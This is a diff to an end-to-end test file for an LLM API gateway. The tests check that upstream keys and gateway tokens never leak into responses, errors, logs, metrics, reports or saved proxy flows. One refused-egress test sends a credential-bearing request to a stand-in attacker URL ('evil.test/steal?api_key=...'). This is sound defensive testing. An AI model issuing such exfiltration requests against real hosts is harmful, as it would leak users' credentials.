@@ -6,6 +6,10 @@ its owner only.
 Distinctive secret strings go through every path a request can take: base-URL and egress mode, answers,
 streams, upstream errors that echo the key back, wrapped errors, stream error events, cut streams, a path
 that is not API traffic, and refused egress (denied CONNECT, denied plain HTTP).
+
+With key custody (a `credentials` section), the gateway token and the upstream key go through the same
+paths, plus refused tokens (wrong, missing) and an upstream that echoes the real key back, which the client
+must not learn either; the saved flows (what mitmweb shows) are searched whole, request headers included.
 """
 
 from __future__ import annotations
@@ -28,6 +32,8 @@ from conftest import routed_rules
 from fakes.upstream import FakeUpstream, Scenario, litellm_wrapped_error
 from harness import ROOT, Gateway
 from llm_gateway import ca
+from llm_gateway.credspec import token_hash
+from secretvolume import write_secret
 
 pytestmark = pytest.mark.e2e
 
@@ -40,8 +46,13 @@ SECRETS = {
     "proxy-authorization": f"Basic PROXYAUTH{TOKEN}",
 }
 UPSTREAM_SET_COOKIE = f"upstream_sid=SETCOOKIE{TOKEN}"
+# Key custody: the real key the gateway holds, the token an agent holds, a token it does not know.
+UPSTREAM_KEY = f"sk-ant-api03-UPSTREAMKEY{TOKEN}"
+GATEWAY_TOKEN = f"llmgw-GATEWAYTOKEN{TOKEN}"
+WRONG_TOKEN = f"llmgw-WRONGTOKEN{TOKEN}"
 # What must never show up: the distinctive part of every secret (so a shortened or re-quoted copy is caught).
-MARKS = [f"{kind}{TOKEN}" for kind in ("KEY", "BEARER", "COOKIE", "COOKIETWO", "PROXYAUTH", "SETCOOKIE")]
+MARKS = [f"{kind}{TOKEN}" for kind in (
+    "KEY", "BEARER", "COOKIE", "COOKIETWO", "PROXYAUTH", "SETCOOKIE", "UPSTREAMKEY", "GATEWAYTOKEN", "WRONGTOKEN")]
 MESSAGES = {"model": "claude-test-1", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}
 
 
@@ -96,6 +107,12 @@ def through_tunnel(gw: Gateway, host: str, data: bytes) -> bytes:
             return read_all(tls)
 
 
+def metrics_when_recorded(gw: Gateway, records: int, headers: dict[str, str]) -> bytes:
+    """The metrics endpoint's answer (asked with `headers`), once `records` usage records are written."""
+    gw.records(count=records, timeout=10)
+    return send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, headers, "GET"))
+
+
 @pytest.fixture(scope="module")
 def traffic(tmp_path_factory):
     """One gateway, every path once, then stopped (which flushes the flow file); yields (gateway, flows
@@ -130,8 +147,7 @@ def traffic(tmp_path_factory):
             got["denied-connect"] = through_tunnel(gw, "evil.test", b"")
             got["denied-plain"] = send(gw.regular_port, request(
                 f"http://evil.test/steal?api_key=KEY{TOKEN}", "evil.test", None, SECRETS, "GET"))
-            gw.records(count=len(base) + 1, timeout=10)
-            got["metrics"] = send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, SECRETS, "GET"))
+            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, SECRETS)
         yield gw, flows, got, fake
 
 
@@ -209,6 +225,86 @@ def test_no_secret_in_the_usage_report(traffic, fmt):
 
 def test_no_secret_in_the_metrics(traffic):
     assert_clean("the metrics", traffic[2]["metrics"].decode())
+
+
+# ------------------------------------------------------------------------------------------ key custody
+
+
+@pytest.fixture(scope="module")
+def custody(tmp_path_factory):
+    """A gateway holding the upstream key (a Secret volume) whose agents hold a gateway token: every path
+    once, then stopped; yields (gateway, flows file, what the clients got, the fake)."""
+    tmp = tmp_path_factory.mktemp("custody")
+    key_file = write_secret(tmp / "secret", "api-key", UPSTREAM_KEY)
+    flows = tmp / "flows.mitm"
+    with FakeUpstream() as fake:
+        rules = routed_rules(fake.url, extra=f"""\
+credentials:
+  upstream: [{{name: main, key_file: {key_file}}}]
+  tokens: [{{name: team-a, sha256: "{token_hash(GATEWAY_TOKEN)}"}}]
+""")
+        with Gateway(rules, extra_args=("-w", str(flows))) as gw:
+            echo = f"invalid x-api-key: {UPSTREAM_KEY}"  # an upstream that echoes the real key back
+            token = {"x-api-key": GATEWAY_TOKEN, "authorization": f"Bearer {GATEWAY_TOKEN}"}
+            base = [  # answers are queued on the fake: a scenario header would carry the key itself
+                ("stream", {**MESSAGES, "stream": True}, Scenario(), token),
+                ("json", MESSAGES, Scenario(), token),
+                ("echo-error", MESSAGES, Scenario.error(401, "authentication_error", echo), token),
+                ("echo-wrapped", MESSAGES, litellm_wrapped_error(401, "authentication_error", echo), token),
+                ("echo-stream-error", {**MESSAGES, "stream": True}, Scenario(error_after=2, stream_error={
+                    "type": "authentication_error", "message": echo}), token),
+                ("echo-json", MESSAGES, Scenario(text=f"your key is {UPSTREAM_KEY}"), token),
+                ("wrong", MESSAGES, None, {"x-api-key": WRONG_TOKEN}),
+                ("missing", MESSAGES, None, {}),
+            ]
+            got = {}
+            for name, body, scenario, headers in base:
+                if scenario is not None:
+                    fake.script(scenario)
+                got[name] = send(gw.reverse_port, request("/v1/messages", "127.0.0.1", body,
+                                                          {**headers, "x-session-id": f"custody-{name}"}))
+            got["not-api"] = send(gw.reverse_port, request("/v1/models", "127.0.0.1", None, token, "GET"))
+            got["egress"] = through_tunnel(gw, "api.anthropic.com", request(
+                "/v1/messages", "api.anthropic.com", {**MESSAGES, "stream": True}, {**token, "x-session-id": "custody-egress"}))
+            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, token)
+        yield gw, flows, got, fake
+
+
+def test_custody_paths_were_taken_and_the_upstream_saw_only_its_key(custody):
+    gw, _flows, got, fake = custody
+    assert b"event: message_stop" in got["stream"] and b'"type":"message"' in got["json"]
+    assert b"event: message_stop" in got["egress"] and b"event: error" in got["echo-stream-error"]
+    for name in ("echo-error", "echo-wrapped", "wrong", "missing"):
+        assert got[name].startswith(b"HTTP/1.1 401"), name
+    assert b"masked by the gateway" in got["echo-error"] and b"masked by the gateway" in got["echo-json"]
+    principals = {r["session"]: r["principal"] for r in gw.records(timeout=0, count=0)}
+    assert principals["custody-stream"] == "team-a" and principals["custody-wrong"] is None
+    api = [r for r in fake.requests if r.path_only == "/v1/messages"]
+    assert len(api) == 7 and all(r.headers.get("x-api-key") == UPSTREAM_KEY for r in api)
+    assert all(GATEWAY_TOKEN not in json.dumps(list(r.headers.items())) for r in fake.requests)
+
+
+def test_custody_secrets_are_in_no_answer_log_record_metric_or_report(custody):
+    gw, _flows, got, _fake = custody
+    for name, answer in got.items():
+        assert_clean(f"the answer to {name}", answer.decode(errors="replace"))
+    assert_clean("mitmdump output", gw.output())
+    assert_clean("the record log", gw.usage_log.read_text())
+    report = subprocess.run(
+        [sys.executable, "-m", "llm_gateway.report", "--format", "json", str(gw.usage_log)],
+        capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "addons")}, timeout=30,
+    )
+    assert report.returncode == 0 and "custody-stream" in report.stdout
+    assert_clean("the usage report", report.stdout + report.stderr)
+
+
+def test_custody_secrets_are_nowhere_in_the_saved_flows(custody):
+    """The whole stored flow (request headers, bodies, metadata, comments): what mitmweb shows and `-w` saves."""
+    with open(custody[1], "rb") as f:
+        saved = list(mio.FlowReader(f).stream())
+    assert len([f for f in saved if f.metadata.get("gateway")]) >= 9
+    for f in saved:
+        assert_clean(f"flow {f.id}", json.dumps(f.get_state(), default=repr))
 
 
 # ----------------------------------------------------------------------------------------- the CA key
